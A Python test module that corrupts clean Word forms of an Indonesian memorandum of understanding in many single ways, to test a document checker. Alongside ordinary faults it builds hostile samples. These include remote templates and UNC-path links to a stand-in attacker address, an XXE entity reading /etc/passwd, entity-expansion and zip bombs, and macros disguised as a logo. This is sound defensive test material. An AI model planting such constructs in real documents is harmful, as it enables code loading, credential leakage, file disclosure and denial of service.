"""Seeded defects for Word forms: each takes the bytes of a clean shipped form and breaks it in one way.

Written without sight of the checker that must find them: from the list of checks it was asked to make, from the
shipped forms and from what Word, clerks and attackers do. `codes` holds every code that is a right answer; one of them
is enough.
"""

from __future__ import annotations

import io
import random
import re
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from html import escape

Make = Callable[[bytes], bytes]

BODY, STYLES, SETTINGS = "word/document.xml", "word/styles.xml", "word/settings.xml"
HEADER, FOOTER, CORE, TYPES = "word/header1.xml", "word/footer1.xml", "docProps/core.xml", "[Content_Types].xml"
W_SPACE = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"
RELATIONSHIPS = "http://schemas.openxmlformats.org/package/2006/relationships"
WORD_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml"
EVIL = "http://203.0.113.7/masuk"
ZERO_WIDTH_SPACE = "\u200b"


@dataclass(frozen=True)
class Defect:
    """A defect in words, the codes that are right answers, how to make it, and the kind of form it is made in."""

    name: str
    codes: frozenset[str]
    make: Make
    kind: str = "mou_bilateral"


# --- the package, open for editing -----------------------------------------------------------------------------------


class Package:
    """The parts of a .docx, open for editing."""

    def __init__(self, docx: bytes) -> None:
        with zipfile.ZipFile(io.BytesIO(docx)) as archive:
            self.parts = {name: archive.read(name) for name in archive.namelist()}

    def text(self, part: str = BODY) -> str:
        return self.parts[part].decode()

    def swap(self, old: str, new: str, part: str = BODY, times: int = 1) -> None:
        """Put `new` in the place of `old`: the first `times` of them, all with -1."""
        text = self.text(part)
        assert old in text, f"{part} does not hold {old!r}"
        assert old != new
        self.parts[part] = text.replace(old, new, times).encode()

    def insert(self, xml: str) -> None:
        """Put paragraphs or tables before the second article."""
        self.swap(heading(self, 2), xml + heading(self, 2))

    def add(self, name: str, data: bytes, content_type: str = "") -> None:
        """Add a part; with a content type it is also listed as one."""
        assert name not in self.parts
        self.parts[name] = data
        if content_type:
            self.swap("</Types>", f'<Override PartName="/{name}" ContentType="{content_type}"/></Types>', TYPES)

    def relate(self, kind: str, target: str, owner: str = BODY, *, external: bool = False) -> str:
        """Let `owner` point to a target; gives the id to point with. A kind without an address is an office kind."""
        rels = rels_of(owner)
        if rels not in self.parts:
            self.parts[rels] = f'<?xml version="1.0"?><Relationships xmlns="{RELATIONSHIPS}"></Relationships>'.encode()
        name = f"rId{100 + self.text(rels).count('<Relationship ')}"
        kind = kind if "://" in kind else f"{OFFICE}/{kind}"
        mode = ' TargetMode="External"' if external else ""
        entry = f'<Relationship Id="{name}" Type="{kind}" Target="{target}"{mode}/>'
        self.swap("</Relationships>", entry + "</Relationships>", rels)
        return name

    def docx(self) -> bytes:
        return pack(list(self.parts.items()))


def rels_of(owner: str) -> str:
    folder, _, name = owner.rpartition("/")
    return f"{folder}/_rels/{name}.rels"


def pack(members: list[tuple[str, bytes]]) -> bytes:
    """Zip members, the same name twice where it is given twice."""
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members:
            info = zipfile.ZipInfo(name)
            info.compress_type = zipfile.ZIP_DEFLATED
            if name in archive.namelist():  # the library would warn, and a warning is an error in the tests
                archive.NameToInfo.pop(name)
            archive.writestr(info, data)
    return written.getvalue()


def edit(change: Callable[[Package], object]) -> Make:
    """Give the maker that opens the package, changes it and zips it again."""

    def make(docx: bytes) -> bytes:
        package = Package(docx)
        before = dict(package.parts)
        change(package)
        assert package.parts != before, "nothing was changed"
        return package.docx()

    return make


def both(*makes: Make) -> Make:
    """Give the maker that does one thing after the other."""

    def make(docx: bytes) -> bytes:
        for one in makes:
            docx = one(docx)
        return docx

    return make


def swapped(old: str, new: str, part: str = BODY, times: int = 1) -> Make:
    return edit(lambda package: package.swap(old, new, part, times))


def said(*lines: str) -> Make:
    """Add paragraphs of plain words before the second article."""
    return edit(lambda package: package.insert("".join(paragraph(run(line)) for line in lines)))


def written(xml: str) -> Make:
    """Add XML before the second article."""
    return edit(lambda package: package.insert(xml))


def set_in_settings(xml: str) -> Make:
    return swapped("<w:defaultTabStop", xml + "<w:defaultTabStop", SETTINGS)


# --- pieces of Word's XML --------------------------------------------------------------------------------------------


def run(text: str, looks: str = "", sign: str = "t") -> str:
    shown = f"<w:rPr>{looks}</w:rPr>" if looks else ""
    return f'<w:r>{shown}<w:{sign} xml:space="preserve">{escape(text, quote=False)}</w:{sign}></w:r>'


def paragraph(inner: str, style: str = "ClauseAlone", shape: str = "") -> str:
    return f'<w:p><w:pPr><w:pStyle w:val="{style}"/>{shape}</w:pPr>{inner}</w:p>'


def looking(looks: str, text: str = "PIHAK KEDUA menanggung seluruh denda.") -> Make:
    """Add a paragraph whose run has these looks."""
    return written(paragraph(run(text, looks)))


def marked(change: str, inner: str) -> str:
    """Wrap content in a tracked change (`ins`, `del`, `moveFrom`, `moveTo`)."""
    return f'<w:{change} w:id="901" w:author="Staf Dinas" w:date="2026-11-20T08:00:00Z">{inner}</w:{change}>'


def simple_field(instruction: str) -> str:
    return f'<w:fldSimple w:instr="{escape(instruction)}">{run("1")}</w:fldSimple>'


def complex_field(*pieces: str) -> str:
    """Give a field whose instruction Word has split over runs."""
    kinds = ("begin", "separate", "end")
    begin, separate, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in kinds)
    return begin + "".join(run(piece, sign="instrText") for piece in pieces) + separate + run("1") + end


def style(name: str, looks: str = "", *, shape: str = "", based: str = "Normal") -> str:
    return (
        f'<w:style w:type="paragraph" w:customStyle="1" w:styleId="{name}"><w:name w:val="{name}"/>'
        f'<w:basedOn w:val="{based}"/><w:pPr>{shape}</w:pPr><w:rPr>{looks}</w:rPr></w:style>'
    )


def fonts(name: str) -> str:
    return f'<w:rFonts w:ascii="{name}" w:hAnsi="{name}" w:cs="{name}"/>'


def table(*rows: tuple[str, ...]) -> str:
    """Give a table of two columns."""
    cells = ("".join(f"<w:tc><w:tcPr/>{paragraph(run(cell), 'Cell')}</w:tc>" for cell in row) for row in rows)
    grid = '<w:tblGrid><w:gridCol w:w="4000"/><w:gridCol w:w="4000"/></w:tblGrid>'
    return f"<w:tbl><w:tblPr/>{grid}{''.join(f'<w:tr>{row}</w:tr>' for row in cells)}</w:tbl>"


def section(width: int, height: int) -> str:
    return f'<w:p><w:pPr><w:sectPr><w:pgSz w:w="{width}" w:h="{height}"/></w:sectPr></w:pPr></w:p>'


def text_box(words: str) -> str:
    """Give a text box as Word writes it: once as a drawing, once more for old Word."""
    content = paragraph(run(words))
    drawing = (
        '<w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing">'
        '<wp:extent cx="2000000" cy="600000"/><wp:docPr id="77" name="Kotak Teks 1"/>'
        '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
        '<a:graphicData uri="http://schemas.microsoft.com/office/word/2010/wordprocessingShape">'
        '<wps:wsp><wps:cNvSpPr txBox="1"/><wps:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="2000000" cy="600000"/>'
        '</a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></wps:spPr>'
        f"<wps:txbx><w:txbxContent>{content}</w:txbxContent></wps:txbx><wps:bodyPr/></wps:wsp></a:graphicData></a:graphic></wp:inline></w:drawing>"
    )
    choice = f'<mc:Choice Requires="wps">{drawing}</mc:Choice>'
    fallback = f"<mc:Fallback>{old_text_box(content)}</mc:Fallback>"
    return f"<w:r><mc:AlternateContent>{choice}{fallback}</mc:AlternateContent></w:r>"


def old_text_box(content: str) -> str:
    box = f"<v:textbox><w:txbxContent>{content}</w:txbxContent></v:textbox>"
    return f'<w:pict><v:shape style="width:150pt;height:50pt">{box}</v:shape></w:pict>'


def picture(pointer: str) -> str:
    """Give a picture whose `a:blip` has this attribute (`r:embed` or `r:link`)."""
    drawn = "http://schemas.openxmlformats.org/drawingml/2006"
    return (
        f'<w:r><w:drawing><wp:inline xmlns:wp="{drawn}/wordprocessingDrawing"><wp:extent cx="900000" cy="900000"/>'
        f'<wp:docPr id="78" name="Logo"/><a:graphic xmlns:a="{drawn}/main"><a:graphicData uri="{drawn}/picture">'
        f'<pic:pic xmlns:pic="{drawn}/picture"><pic:nvPicPr><pic:cNvPr id="0" name="logo.png"/><pic:cNvPicPr/>'
        f"</pic:nvPicPr><pic:blipFill><a:blip {pointer}/></pic:blipFill><pic:spPr/></pic:pic></a:graphicData>"
        "</a:graphic></wp:inline></w:drawing></w:r>"
    )


# --- finding places in the form --------------------------------------------------------------------------------------


def heading(package: Package, number: int) -> str:
    """Give the XML of an article's heading."""
    return line_of(package, f"<w:t>Pasal {number}</w:t>")


def article(package: Package, number: int) -> str:
    """Give the XML of a whole article; not of the last one."""
    text = package.text()
    return text[text.index(heading(package, number)) : text.index(heading(package, number + 1))]


def line_of(package: Package, words: str, after: str = "") -> str:
    """Give the XML of the first paragraph that holds the words, after the first place of other words."""
    text = package.text()
    for found in re.findall(r"<w:p(?: [^>]*)?>(?:(?!</w:p>).)*</w:p>", text[text.index(after) :], re.DOTALL):
        if words in found:
            return str(found)
    raise AssertionError(f"no paragraph holds {words!r}")


def row_of(package: Package, words: str) -> str:
    """Give the XML of the table row that holds the words."""
    text = package.text()
    at = text.index(words)
    return text[text.rindex("<w:tr>", 0, at) : text.index("</w:tr>", at) + len("</w:tr>")]


def without_line(words: str, new: str = "") -> Make:
    """Take the first paragraph with these words out, or put XML in its place."""
    return edit(lambda package: package.swap(line_of(package, words), new))


def without_article(title: str, *, renumbered: bool) -> Make:
    """Take an article out and, as a careful clerk does, give the later ones new numbers."""

    def change(package: Package) -> None:
        found = re.search(rf"<w:t>Pasal (\d+)</w:t><w:br/><w:t>{title}</w:t>", package.text())
        assert found, title
        package.swap(article(package, int(found[1])), "")
        number = int(found[1]) + 1
        while renumbered and f"<w:t>Pasal {number}</w:t>" in package.text():
            package.swap(f"<w:t>Pasal {number}</w:t>", f"<w:t>Pasal {number - 1}</w:t>")
            number += 1

    return edit(change)


# --- whole files -----------------------------------------------------------------------------------------------------


def compound(*streams: str) -> bytes:
    """Write an OLE compound file (old Word, or a .docx under a password) with streams of 4 kB."""
    free, end, table_sector, sectors = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 8
    chains = [table_sector, end]
    for at in range(len(streams)):
        chains += [*range(3 + at * sectors, 2 + (at + 1) * sectors), end]
    directory = _entry("Root Entry", 5, 1, free, end, 0)
    for at, name in enumerate(streams):
        after = at + 2 if at + 1 < len(streams) else free
        directory += _entry(name, 2, free, after, 2 + at * sectors, sectors * 512)
    start = bytes.fromhex("D0CF11E0A1B11AE1") + bytes(16) + struct.pack("<5H6x", 0x3E, 3, 0xFFFE, 9, 6)
    start += struct.pack("<9L", 0, 1, 1, 0, 4096, end, 0, end, 0) + struct.pack("<109L", 0, *[free] * 108)
    listed = struct.pack("<128L", *chains, *[free] * (128 - len(chains)))
    content = random.Random(len(streams)).randbytes(len(streams) * sectors * 512)
    return start + listed + directory.ljust(512, b"\0") + content


def _entry(name: str, kind: int, child: int, after: int, first: int, size: int) -> bytes:
    named = name.encode("utf-16-le")
    free = 0xFFFFFFFF
    links = (free, after, child if kind == 5 else free)
    head = named.ljust(64, b"\0") + struct.pack("<HBB3L", len(named) + 2, kind, 1, *links)
    return head + bytes(36) + struct.pack("<LQ", first, size)


def instead(data: bytes) -> Make:
    """Give another file altogether."""

    def make(docx: bytes) -> bytes:
        assert data != docx
        return data

    return make


def cut_short(docx: bytes) -> bytes:
    return docx[: len(docx) * 2 // 3]


def one_byte_wrong(docx: bytes) -> bytes:
    """Change a byte in the middle of the document's compressed text."""
    with zipfile.ZipFile(io.BytesIO(docx)) as archive:
        info = archive.getinfo(BODY)
    broken = bytearray(docx)
    broken[info.header_offset + 30 + len(info.filename) + info.compress_size // 2] ^= 0xFF
    return bytes(broken)


def zip_under_password(docx: bytes) -> bytes:
    """Set the sign "encrypted" on every member, as an archiver does that was given a password."""
    broken = bytearray(docx)
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        for found in re.finditer(re.escape(signature), docx):
            broken[found.start() + offset] |= 1
    return bytes(broken)


def folder_of(docx: bytes) -> bytes:
    return pack([("MoU final revisi 3/MoU final revisi 3.docx", docx), ("MoU final revisi 3/lampiran.txt", b"-")])


def without_document(docx: bytes) -> bytes:
    package = Package(docx)
    del package.parts[BODY]
    return package.docx()


BOOK_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
BOOK_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    f'<Override PartName="/xl/workbook.xml" ContentType="{BOOK_TYPE}"/></Types>'
)
BOOK_RELS = (
    f'<?xml version="1.0"?><Relationships xmlns="{RELATIONSHIPS}">'
    f'<Relationship Id="rId1" Type="{OFFICE}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
)
SPREADSHEET = pack(
    [
        (TYPES, BOOK_TYPES.encode()),
        ("_rels/.rels", BOOK_RELS.encode()),
        ("xl/workbook.xml", b'<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'),
    ],
)
OPEN_DOCUMENT = pack(
    [
        ("mimetype", b"application/vnd.oasis.opendocument.text"),
        ("content.xml", b"<office:document-content xmlns:office='urn:oasis:names:tc:opendocument:xmlns:office:1.0'/>"),
    ]
)


# --- the package -----------------------------------------------------------------------------------------------------


def with_second_document(docx: bytes) -> bytes:
    package = Package(docx)
    package.insert(paragraph(run("PIHAK KEDUA menanggung seluruh denda.")))
    return pack([*Package(docx).parts.items(), (BODY, package.parts[BODY])])


def with_many_members(package: Package) -> None:
    for number in range(400):
        package.parts[f"word/media/image{number}.png"] = b"\x89PNG\r\n\x1a\n"


def with_bomb(package: Package) -> None:
    """Add a member that is about 300 times as long as it was stored."""
    chance = random.Random(7)
    package.parts["word/media/image1.png"] = b"".join(chance.randbytes(15) + bytes(9_000) for _ in range(1_000))


def with_blank_bomb(package: Package) -> None:
    package.swap("</w:body>", " " * 20_000_000 + "</w:body>")


def with_lying_size(docx: bytes) -> bytes:
    """Add a bomb whose stated length is a small one."""
    package = Package(docx)
    package.parts["word/media/image1.png"] = bytes(25_000_000)
    return package.docx().replace(struct.pack("<L", 25_000_000), struct.pack("<L", 40_000))


def with_great_scans(package: Package) -> None:
    """Add 36 MB that shrink as a scanned page does, not as a bomb."""
    chance = random.Random(11)
    for number in range(6):
        scan = b"".join(chance.randbytes(200) + bytes(9_800) for _ in range(600))
        package.parts[f"word/media/pindaian{number}.bmp"] = scan


def with_entities(part: str, root: str) -> Make:
    """Put a DTD before the root element, with entities that grow ("a billion laughs")."""
    grown = '<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">'
    return swapped(f"<{root} ", f"<!DOCTYPE x [{grown}]>\n<{root} ", part)


def with_doctype_in_utf16(package: Package) -> None:
    """Hide the DTD from a search for its bytes: the part is UTF-16."""
    text = package.text(STYLES)
    text = re.sub(r"^<\?xml[^>]*\?>", '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE w:styles>', text)
    package.parts[STYLES] = text.encode("utf-16")


def with_macros(package: Package) -> None:
    package.add("word/vbaProject.bin", compound("PROJECT", "VBA"), "application/vnd.ms-office.vbaProject")
    package.relate(f"{MICROSOFT}/vbaProject", "vbaProject.bin")


def with_renamed_macros(package: Package) -> None:
    package.add("word/media/logo.bin", compound("PROJECT", "VBA"), "application/vnd.ms-office.vbaProject")
    package.relate(f"{MICROSOFT}/vbaProject", "media/logo.bin")


def with_embedded(name: str, data: bytes, content_type: str, kind: str) -> Make:
    """Lay a file into the document as an object."""

    def change(package: Package) -> None:
        package.add(f"word/{name}", data, content_type)
        pointer = package.relate(kind, name)
        ole = f'<o:OLEObject Type="Embed" ProgID="Package" ShapeID="_x0000_i1025" DrawAspect="Icon" r:id="{pointer}"/>'
        package.insert(paragraph(f"<w:r><w:object>{ole}</w:object></w:r>"))

    return edit(change)


def with_activex(package: Package) -> None:
    control = '<ax:ocx ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}" ax:persistence="persistStreamInit" '
    control += 'xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>'
    package.add("word/activeX/activeX1.xml", control.encode(), "application/vnd.ms-office.activeX+xml")
    package.add("word/activeX/activeX1.bin", bytes(64), "application/vnd.ms-office.activeX")
    pointer = package.relate("control", "activeX/activeX1.xml")
    shape = f'<w:control r:id="{pointer}" w:name="CheckBox1" w:shapeid="_x0000_i1026"/>'
    package.insert(paragraph(f"<w:r><w:object>{shape}</w:object></w:r>"))


def with_other_content(name: str, data: bytes, content_type: str) -> Make:
    """Let Word take in a whole other file at the place of a paragraph (altChunk)."""

    def change(package: Package) -> None:
        package.add(name, data, content_type)
        package.insert(f'<w:altChunk r:id="{package.relate("aFChunk", "/" + name)}"/>')

    return edit(change)


def with_remote_template(package: Package) -> None:
    pointer = package.relate("attachedTemplate", f"{EVIL}/resmi.dotm", SETTINGS, external=True)
    package.swap("<w:defaultTabStop", f'<w:attachedTemplate r:id="{pointer}"/><w:defaultTabStop', SETTINGS)


def with_remote_data(package: Package) -> None:
    pointer = package.relate("mailMergeSource", "file:///\\\\203.0.113.7\\data\\peserta.xlsx", SETTINGS, external=True)
    source = f'<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataSource r:id="{pointer}"/></w:mailMerge>'
    package.swap("<w:defaultTabStop", f"{source}<w:defaultTabStop", SETTINGS)


def with_linked_picture(package: Package) -> None:
    pointer = package.relate("image", f"{EVIL}/logo.png", external=True)
    package.insert(paragraph(picture(f'r:link="{pointer}"')))


def with_linked_picture_in_header(package: Package) -> None:
    """Link a picture in the header; the relationships are written with a prefix and single quotes."""
    entry = f"<k:Relationship Id='rId1' Type='{OFFICE}/image' Target='{EVIL}/kop.png' TargetMode='External'/>"
    whole = f"<?xml version='1.0'?><k:Relationships xmlns:k='{RELATIONSHIPS}'>{entry}</k:Relationships>"
    package.parts[rels_of(HEADER)] = whole.encode()
    package.swap("</w:p></w:hdr>", picture('r:link="rId1"') + "</w:p></w:hdr>", HEADER)


def with_old_linked_picture(package: Package) -> None:
    """Link a picture the way old Word did (VML)."""
    pointer = package.relate("image", "\\\\203.0.113.7\\bersama\\cap.png", external=True)
    package.insert(
        paragraph(f'<w:r><w:pict><v:shape><v:imagedata r:href="{pointer}"/></v:shape></w:pict></w:r>'),
    )


def with_hyperlink(package: Package) -> None:
    pointer = package.relate("hyperlink", f"{EVIL}?nama=dinas", external=True)
    package.insert(paragraph(f'<w:hyperlink r:id="{pointer}">{run("unduh lampiran di sini")}</w:hyperlink>'))


def with_remote_part_document(package: Package) -> None:
    pointer = package.relate("subDocument", "file:///C:/Kantor/lampiran.docx", external=True)
    package.insert(f'<w:p><w:subDoc r:id="{pointer}"/></w:p>')


def in_strict_format(package: Package) -> None:
    """Save as "Strict Open XML Document", which has other namespaces."""
    for name, data in package.parts.items():
        for old, new in ((W_SPACE, "wordprocessingml/main"), (OFFICE, "officeDocument/relationships")):
            data = data.replace(old.encode(), f"http://purl.oclc.org/ooxml/{new}".encode())  # noqa: PLW2901
        package.parts[name] = data


def in_utf16(package: Package) -> None:
    package.parts[BODY] = re.sub(r"encoding='UTF-8'", "encoding='UTF-16'", package.text()).encode("utf-16")


# --- looks -----------------------------------------------------------------------------------------------------------


def restyled(name: str, looks: str) -> Make:
    """Give an existing style further looks."""

    def change(package: Package) -> None:
        old = re.search(rf'<w:style [^>]*w:styleId="{name}">.*?<w:rPr>', package.text(STYLES), re.DOTALL)
        assert old, name
        package.swap(old[0], old[0] + looks, STYLES)

    return edit(change)


def in_new_style(*styles: str, name: str) -> Make:
    """Add styles and a paragraph in the one named."""

    def change(package: Package) -> None:
        package.swap("</w:styles>", "".join(styles) + "</w:styles>", STYLES)
        package.insert(paragraph(run("PIHAK KEDUA menanggung seluruh denda."), name))

    return edit(change)


NUMBERED = '<w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr>'


def with_numbering(package: Package) -> None:
    level = '<w:lvl w:ilvl="0"><w:start w:val="1"/><w:numFmt w:val="decimal"/><w:lvlText w:val="(%1)"/></w:lvl>'
    lists = f'<w:abstractNum w:abstractNumId="0">{level}</w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/>'
    whole = f'<w:numbering xmlns:w="{W_SPACE}">{lists}</w:num></w:numbering>'
    package.add("word/numbering.xml", whole.encode(), f"{WORD_TYPE}.numbering+xml")
    package.relate("numbering", "numbering.xml")


def with_numbers_direct(package: Package) -> None:
    with_numbering(package)
    package.insert(paragraph(run("PARA PIHAK saling memberi kabar."), "Clause", NUMBERED))


def with_numbers_by_style(package: Package) -> None:
    """Number by a style that has it only from the style it is based on."""
    with_numbering(package)
    parent = style("AyatOtomatis", shape=NUMBERED)
    package.swap("</w:styles>", parent + style("AyatRapi", based="AyatOtomatis") + "</w:styles>", STYLES)
    package.insert(paragraph(run("PARA PIHAK saling memberi kabar."), "AyatRapi"))


def with_numbers_in_existing_style(package: Package) -> None:
    with_numbering(package)
    opening = '<w:name w:val="Item"/><w:basedOn w:val="Normal"/><w:pPr>'
    package.swap(opening, opening + NUMBERED, STYLES)


def with_comments(package: Package) -> None:
    """Leave a comment at the duration, as reviewers do."""
    comment = f'<w:comment w:id="0" w:author="Bagian Hukum">{paragraph(run("Apakah ini sudah final?"))}</w:comment>'
    whole = f'<w:comments xmlns:w="{W_SPACE}">{comment}</w:comments>'
    package.add("word/comments.xml", whole.encode(), f"{WORD_TYPE}.comments+xml")
    package.relate("comments", "comments.xml")
    package.insert(
        paragraph(
            f'<w:commentRangeStart w:id="0"/>{run("PARA PIHAK saling memberi kabar.")}<w:commentRangeEnd w:id="0"/>'
            '<w:r><w:commentReference w:id="0"/></w:r>',
        ),
    )


def with_footnote(words: str) -> Make:
    def change(package: Package) -> None:
        note = f'<w:footnote w:id="1">{paragraph(run(words))}</w:footnote>'
        whole = f'<w:footnotes xmlns:w="{W_SPACE}">{note}</w:footnotes>'
        package.add("word/footnotes.xml", whole.encode(), f"{WORD_TYPE}.footnotes+xml")
        package.relate("footnotes", "footnotes.xml")
        package.insert(paragraph(run("Lihat catatan.") + '<w:r><w:footnoteReference w:id="1"/></w:r>'))

    return edit(change)


# --- tags and content ------------------------------------------------------------------------------------------------


def with_crossed_blocks(package: Package) -> None:
    """Open the loop, open the condition, close the loop, close the condition."""
    opening = line_of(package, "{%p for row in roles_first %}")
    row, closing = line_of(package, "{{ row.text }}", opening), line_of(package, "{%p endfor %}", opening)
    condition, its_end = paragraph(run("{%p if choice.mode == 'mixed' %}")), paragraph(run("{%p endif %}"))
    package.swap(opening + row + closing, opening + condition + row + closing + its_end)


def with_words_in_row_of_tag(package: Package) -> None:
    row = row_of(package, "{%tr for row in matrix %}")
    empty = '<w:p><w:pPr><w:pStyle w:val="Cell"/></w:pPr></w:p>'
    package.swap(row, row.replace(empty, paragraph(run("Angka dalam ton, bukan kilogram."), "Cell"), 1))


def with_closing_deleted(package: Package) -> None:
    """Let Word strike the closing tag of the first loop out under tracked changes."""
    old = line_of(package, "{%p endfor %}")
    package.swap(old, paragraph(marked("del", run("{%p endfor %}", sign="delText")), "Item"))


def with_stray_header(words: str) -> Make:
    """Lay a header into the package that no section refers to."""
    whole = f'<w:hdr xmlns:w="{W_SPACE}">{paragraph(run(words))}</w:hdr>'
    return edit(lambda package: package.add("word/header9.xml", whole.encode(), f"{WORD_TYPE}.header+xml"))


def with_company(company: str) -> Make:
    """Fill in the extended properties, which nobody ever fills from words."""
    space = "http://schemas.openxmlformats.org/officeDocument/2006/extended-properties"
    whole = f'<?xml version="1.0"?><Properties xmlns="{space}"><Company>{company}</Company></Properties>'
    kind = "application/vnd.openxmlformats-officedocument.extended-properties+xml"

    def change(package: Package) -> None:
        package.add("docProps/app.xml", whole.encode(), kind)
        owner = "_rels/.rels"
        entry = f'<Relationship Id="rId9" Type="{OFFICE}/extended-properties" Target="docProps/app.xml"/>'
        package.swap("</Relationships>", entry + "</Relationships>", owner)

    return edit(change)


def with_articles_swapped(package: Package) -> None:
    first, second = article(package, 2), article(package, 3)
    package.swap(first + second, second + first)


def with_heading_torn(package: Package) -> None:
    """Press Enter between the number and the title of an article."""
    enter = '</w:r></w:p><w:p><w:pPr><w:pStyle w:val="Article"/></w:pPr><w:r>'
    package.swap("<w:t>Pasal 5</w:t><w:br/>", f"<w:t>Pasal 5</w:t>{enter}")


def with_heading_retyped(package: Package) -> None:
    """Type a heading anew, which loses its bookmark."""
    fresh = paragraph("<w:r><w:t>Pasal 1</w:t><w:br/><w:t>HAL-HAL UMUM</w:t></w:r>", "Article")
    package.swap(heading(package, 1), fresh)


def with_article_overwritten(package: Package) -> None:
    """Type over the heading and the clauses of an article; Word keeps the bookmark."""
    head, whole = heading(package, 1), article(package, 1)
    package.swap(whole, head + paragraph(run("PARA PIHAK saling menghormati.")))
    package.swap("<w:t>MAKSUD DAN TUJUAN</w:t>", "<w:t>SALING MENGHORMATI</w:t>")


def with_article_in_one_variant(package: Package) -> None:
    whole = article(package, 6)
    package.swap(whole, paragraph(run("{%p if choice.mode == 'mixed' %}")) + whole + paragraph(run("{%p endif %}")))


def with_swallowed_clause(package: Package) -> None:
    """Open a remark of the tag language in one clause and close it in the next: all between is never printed."""
    package.swap("Setiap pihak menanggung biayanya", "{# Setiap pihak menanggung biayanya")
    package.swap("Nota Kesepahaman ini tidak dengan sendirinya", "#} Nota Kesepahaman ini tidak dengan sendirinya")


def without_column(package: Package) -> None:
    package.swap("{{ row.need }}", "sesuai pembicaraan")


def without_first_signature(package: Package) -> None:
    text = package.text()
    at = text.index("{{ first.code }}")
    cell = text[text.rindex("<w:tc>", 0, at) : text.index("</w:tc>", at)]
    package.swap(cell, f"<w:tc><w:tcPr/>{paragraph('')}")


def without_annex_table(package: Package) -> None:
    text = package.text()
    at = text.index("{%tr for row in matrix %}")
    package.swap(text[text.rindex("<w:tbl>", 0, at) : text.index("</w:tbl>", at) + len("</w:tbl>")], paragraph(""))


def defect(name: str, codes: str, make: Make, kind: str = "mou_bilateral") -> Defect:
    """Give a defect; the codes stand in one string."""
    return Defect(name, frozenset(codes.split()), make, kind)


NETWORK = "mou_network"

BYTES = (
    defect("an old Word file (.doc) renamed to .docx", "old_word", instead(compound("1Table", "WordDocument"))),
    defect(
        "a .docx under an opening password",
        "password",
        instead(compound("EncryptionInfo", "EncryptedPackage")),
    ),
    defect("a PDF renamed to .docx", "not_word", instead(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n")),
    defect("a text file renamed to .docx", "not_word", instead("NOTA KESEPAHAMAN\r\nANTARA ...\r\n".encode("cp1252"))),
    defect("a rich text file renamed to .docx", "not_word old_word", instead(rb"{\rtf1\ansi NOTA KESEPAHAMAN\par}")),
    defect("a photo of the paper renamed to .docx", "not_word", instead(b"\xff\xd8\xff\xe0\x00\x10JFIF" + bytes(900))),
    defect("an empty file", "not_word", instead(b"")),
    defect("a spreadsheet renamed to .docx", "not_word unreadable", instead(SPREADSHEET)),
    defect("an OpenDocument text renamed to .docx", "not_word unreadable", instead(OPEN_DOCUMENT)),
    defect("a zipped folder with the .docx inside it", "not_word unreadable", folder_of),
    defect("a package without its document", "not_word unreadable", without_document),
    defect("an upload that broke off after two thirds", "zip_broken", cut_short),
    defect("a byte gone wrong in the document's compressed text", "zip_broken unreadable", one_byte_wrong),
    defect("a zip whose members are under a password", "password zip_broken unreadable", zip_under_password),
)

PACKAGE = (
    defect("a second document of the same name in the zip", "member_twice", with_second_document),
    defect(
        "a second document whose name differs only in a capital letter",
        "member_twice unreadable",
        edit(lambda package: package.add("word/Document.xml", package.parts[BODY])),
    ),
    defect("400 small members", "members_many", edit(with_many_members)),
    defect("a picture that unpacks to 300 times its size", "zip_bomb", edit(with_bomb)),
    defect("20 MB of blanks inside the document", "zip_bomb too_large", edit(with_blank_bomb)),
    defect("a bomb that states a small size", "zip_bomb zip_broken too_large", with_lying_size),
    defect("36 MB of scanned pages", "too_large", edit(with_great_scans)),
    defect("a DTD with growing entities in the document", "doctype", with_entities(BODY, "w:document")),
    defect("a DTD with growing entities in a header", "doctype", with_entities(HEADER, "w:hdr")),
    defect("a DTD in the content types", "doctype", with_entities(TYPES, "Types")),
    defect(
        "a DTD that reads a file of the server, in the properties",
        "doctype",
        swapped("<cp:coreProperties", '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><cp:coreProperties', CORE),
    ),
    defect(
        "a DTD in the relationships of the settings",
        "doctype",
        edit(
            lambda package: package.add(
                rels_of(SETTINGS),
                f'<!DOCTYPE Relationships [<!ENTITY e "x">]><Relationships xmlns="{RELATIONSHIPS}"/>'.encode(),
            ),
        ),
    ),
    defect("a DTD in styles that are stored as UTF-16", "doctype unreadable", edit(with_doctype_in_utf16)),
    defect("macros", "macro", edit(with_macros)),
    defect("macros under the name of a logo", "macro", edit(with_renamed_macros)),
    defect(
        "the content type of a file with macros",
        "macro",
        swapped(f"{WORD_TYPE}.document.main+xml", "application/vnd.ms-word.document.macroEnabled.main+xml", TYPES),
    ),
    defect(
        "an OLE object",
        "embedded_object",
        with_embedded(
            "embeddings/oleObject1.bin",
            compound("CONTENTS"),
            "application/vnd.openxmlformats-officedocument.oleObject",
            "oleObject",
        ),
    ),
    defect(
        "a spreadsheet laid into the text",
        "embedded_object",
        with_embedded(
